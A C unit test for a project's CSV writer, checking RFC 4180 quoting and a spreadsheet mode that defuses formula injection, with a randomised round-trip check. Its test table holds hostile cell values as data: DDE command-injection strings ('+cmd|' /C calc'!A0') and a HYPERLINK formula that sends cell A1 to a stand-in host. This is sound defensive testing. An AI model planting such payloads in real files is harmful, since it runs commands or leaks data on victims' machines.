/* test_csv.c - src/common/csv.c: RFC 4180 fields, verbatim and defused for spreadsheets.
 *
 * Hostile fields against hand-written expected output in both modes, then random
 * fields through a reader written here from RFC 4180 (not the project's importer):
 * verbatim output reads back byte for byte; spreadsheet output reads back with one
 * leading ' exactly when the field starts with = + - @ TAB or CR. */
#include <stdlib.h>
#include <string.h>

#include "common/buf.h"
#include "common/csv.h"
#include "testlib.h"

static const struct {
    const char *in, *verbatim, *sheet;
} cases[] = {
    {"", "", ""},
    {"plain", "plain", "plain"},
    {"=1+1", "=1+1", "\"'=1+1\""},
    {"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
     "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"",
     "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\""},
    {"+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
    {"-2+3", "-2+3", "\"'-2+3\""},
    {"@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
     "\"'@SUM(1+1)*cmd|' /C calc'!A0\""},
    {"\t=1", "\"\t=1\"", "\"'\t=1\""},
    {"\r=1", "\"\r=1\"", "\"'\r=1\""},
    {"a=1", "a=1", "a=1"},               /* only the first byte counts */
    {" =1", "\" =1\"", "\" =1\""},       /* leading space: quoted, not a formula start */
    {"'=1", "'=1", "'=1"},               /* already text to a spreadsheet */
    {"a,b", "\"a,b\"", "\"a,b\""},
    {"say \"hi\"", "\"say \"\"hi\"\"\"", "\"say \"\"hi\"\"\""},
    {"\"", "\"\"\"\"", "\"\"\"\""},
    {"line1\nline2", "\"line1\nline2\"", "\"line1\nline2\""},
    {"cr\r\nlf", "\"cr\r\nlf\"", "\"cr\r\nlf\""},
    {"=a,\"b\"\n", "\"=a,\"\"b\"\"\n\"", "\"'=a,\"\"b\"\"\n\""},
    {"-", "-", "\"'-\""},
    {"trail ", "\"trail \"", "\"trail \""},
    {"\xe3\x83\x86\xe3\x82\xb9\xe3\x83\x88", "\xe3\x83\x86\xe3\x82\xb9\xe3\x83\x88",
     "\xe3\x83\x86\xe3\x82\xb9\xe3\x83\x88"},
};

static void test_cases(void)
{
    struct cw_buf b = CW_BUF_INIT;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        cw_buf_clear(&b);
        cw_csv_str(&b, cases[i].in, 0);
        CHECK_EQ_MEM(b.data ? b.data : "", b.len, cases[i].verbatim);
        cw_buf_clear(&b);
        cw_csv_str(&b, cases[i].in, CW_CSV_SPREADSHEET);
        CHECK_EQ_MEM(b.data ? b.data : "", b.len, cases[i].sheet);
    }
    /* quote-all: every field quoted, still defused only on request */
    cw_buf_clear(&b);
    cw_csv_str(&b, "abc", CW_CSV_QUOTE_ALL);
    CHECK_EQ_STR(b.data, "\"abc\"");
    cw_buf_clear(&b);
    cw_csv_str(&b, "=abc", CW_CSV_QUOTE_ALL);
    CHECK_EQ_STR(b.data, "\"=abc\"");
    cw_buf_clear(&b);
    cw_csv_str(&b, "=abc", CW_CSV_QUOTE_ALL | CW_CSV_SPREADSHEET);
    CHECK_EQ_STR(b.data, "\"'=abc\"");
    cw_buf_clear(&b);
    cw_csv_str(&b, NULL, CW_CSV_QUOTE_ALL);
    CHECK_EQ_STR(b.data, "\"\"");
    /* a field with a NUL byte is written whole */
    cw_buf_clear(&b);
    cw_csv_field(&b, "=a\0b", 4, CW_CSV_SPREADSHEET);
    CHECK_EQ_INT(b.len, 7);
    CHECK(b.len == 7 && memcmp(b.data, "\"'=a\0b\"", 7) == 0);
    cw_buf_release(&b);

    unsigned f = 99;
    CHECK_EQ_INT(cw_csv_for(NULL, &f), 0);
    CHECK_EQ_INT(f, 0);
    CHECK_EQ_INT(cw_csv_for("spreadsheet", &f), 0);
    CHECK_EQ_INT(f, CW_CSV_SPREADSHEET);
    CHECK_EQ_INT(cw_csv_for("machine", &f), 0);
    CHECK_EQ_INT(f, 0);
    CHECK_EQ_INT(cw_csv_for("excel", &f), -1);
    CHECK_EQ_INT(cw_csv_for("", &f), -1);
}

/* RFC 4180 reader of one record of fields; returns the number of fields, -1 if the
 * text is not well formed. Field k is out[k] (heap, NUL allowed, length len[k]). */
static int read_record(const char *d, size_t n, char **out, size_t *len, int max)
{
    size_t i = 0;
    int nf = 0;
    for (;;) {
        if (nf == max)
            return -1;
        char *f = malloc(n + 1);
        size_t fl = 0;
        if (i < n && d[i] == '"') {
            for (i++;; i++) {
                if (i >= n) {
                    free(f);
                    return -1;
                }
                if (d[i] == '"') {
                    if (i + 1 < n && d[i + 1] == '"') {
                        f[fl++] = '"';
                        i++;
                        continue;
                    }
                    i++;
                    break;
                }
                f[fl++] = d[i];
            }
        } else {
            for (; i < n && d[i] != ','; i++) {
                if (d[i] == '"' || d[i] == '\n' || d[i] == '\r') {
                    free(f);
                    return -1; /* must have been quoted */
                }
                f[fl++] = d[i];
            }
        }
        out[nf] = f;
        len[nf++] = fl;
        if (i == n)
            return nf;
        if (d[i] != ',')
            return -1;
        i++;
    }
}

static void test_random(void)
{
    static const char alphabet[] = "=+-@\t\r\n\",' a'Z0";
    srand(4180);
    struct cw_buf b = CW_BUF_INIT;
    size_t defused = 0;
    for (int round = 0; round < 20000; round++) {
        char fld[3][12];
        size_t fn[3];
        for (int k = 0; k < 3; k++) {
            fn[k] = (size_t)(rand() % 12);
            for (size_t i = 0; i < fn[k]; i++)
                fld[k][i] = alphabet[rand() % (int)(sizeof(alphabet) - 1)];
        }
        for (unsigned mode = 0; mode < 4; mode++) {
            cw_buf_clear(&b);
            for (int k = 0; k < 3; k++) {
                if (k)
                    cw_buf_addc(&b, ',');
                cw_csv_field(&b, fld[k], fn[k], mode);
            }
            char *got[4];
            size_t gl[4];
            int nf = read_record(b.data, b.len, got, gl, 4);
            CHECK_EQ_INT(nf, 3);
            for (int k = 0; k < nf && k < 3; k++) {
                bool f0 = fn[k] && strchr("=+-@\t\r", fld[k][0]);
                size_t skip = (mode & CW_CSV_SPREADSHEET) && f0 ? 1 : 0;
                defused += skip;
                CHECK(gl[k] == fn[k] + skip);
                CHECK(!skip || got[k][0] == '\'');
                CHECK(gl[k] == fn[k] + skip && memcmp(got[k] + skip, fld[k], fn[k]) == 0);
                free(got[k]);
            }
        }
    }
    CHECK(defused > 1000); /* the alphabet made the interesting case common */
    cw_buf_release(&b);
}

int main(void)
{
    test_cases();
    test_random();
    return cw_test_finish("test_csv");
}
